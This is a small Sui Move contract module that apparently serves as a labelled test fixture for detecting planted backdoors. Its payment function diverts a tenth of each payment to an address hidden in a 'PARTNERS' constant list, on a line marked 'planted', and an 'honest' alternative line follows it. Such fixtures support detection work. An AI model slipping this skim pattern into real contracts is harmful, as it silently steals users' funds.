module hostile::address_in_constant_list;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

const PARTNERS: vector<address> = vector[@0x7, @0xbad];

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut money = payment.into_balance();
    let share = money.value() / 10;
    let cut = money.split(share).into_coin(ctx);
    transfer::public_transfer(cut, PARTNERS[1]); //! planted
    jar.money.join(cut.into_balance()); //! honest
    jar.money.join(money);
}
